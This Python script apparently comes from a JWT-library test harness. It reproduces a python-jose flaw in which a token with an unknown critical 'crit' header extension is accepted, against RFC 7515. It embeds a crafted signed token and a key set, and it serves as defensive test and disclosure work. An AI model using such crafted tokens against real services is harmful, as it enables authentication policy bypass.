#!/usr/bin/env python3
"""python-jose ignores the crit header parameter: a token whose protected header lists an
extension python-jose does not understand ("crit": ["http://example.com/ext"]) is accepted, when
the JWS must be rejected as invalid.

RFC 7515 §4.1.11: "If any of the listed extension Header Parameters are not understood and
supported by the recipient, then the JWS is invalid. … This Header Parameter MUST be understood
and processed by implementations." (The attack: CVE-2026-32597, a crit extension the verifier
does not understand silently ignored.)

Reproduces: header/crit-unknown-extension (policy-bypass)

Run (after scripts/setup.sh): adapters/python-jose/.venv/bin/python adapters/python-jose/repro.py
Configured as adapters/python-jose/adapter.py configures it (cryptography backend); needs only
python-jose.
"""

import json
import sys

from jose import jwt
from jose.exceptions import JOSEError

VECTOR = "header/crit-unknown-extension"
TOKEN = (
    "eyJhbGciOiJFUzI1NiIsImNyaXQiOlsiaHR0cDovL2V4YW1wbGUuY29tL2V4dCJdLCJodHRwOi8vZXhhbXBsZS5jb20vZXh0Ijp0cnVl"
    "LCJraWQiOiJwcmltYXJ5IiwidHlwIjoiYXQrand0In0"
    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTA"
    "wMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZ"
    "QN1E4UjlTMFQxVjIifQ"
    ".oYwG_a_DaEDlfjUVQm9XZqbCEiZjwR9Naj78PmgL1Okhf0UX3flJwGHQb4EnLIRilKJ6HpzMycALTB-8Xj6Kwg"
)
JWKS = {"keys": [{"alg": "ES256", "crv": "P-256", "kid": "primary", "kty": "EC", "use": "sig",
                  "x": "Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE",
                  "y": "opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}
ISSUER, AUDIENCE, ALGORITHMS, LEEWAY = "https://issuer.example", "https://api.example", ["ES256"], 0
OPTIONS = {
    **{f"verify_{v}": True for v in ("signature", "aud", "iat", "exp", "nbf", "iss", "sub", "jti", "at_hash")},
    **{f"require_{c}": True for c in ("exp", "iat", "iss", "aud", "sub", "jti")},
    "leeway": LEEWAY,
}


def main():
    try:
        jwt.decode(TOKEN, json.dumps(JWKS), algorithms=ALGORITHMS, audience=AUDIENCE, issuer=ISSUER, options=OPTIONS)
    except JOSEError as error:
        print(f"NOT REPRODUCED {VECTOR}: python-jose rejected the token: {type(error).__name__}: {error}")
        return 1
    crit = jwt.get_unverified_header(TOKEN).get("crit")
    print(f"REPRODUCED {VECTOR}: python-jose accepted a token whose header marks the unknown extension {crit} critical")
    return 0


if __name__ == "__main__":
    sys.exit(main())
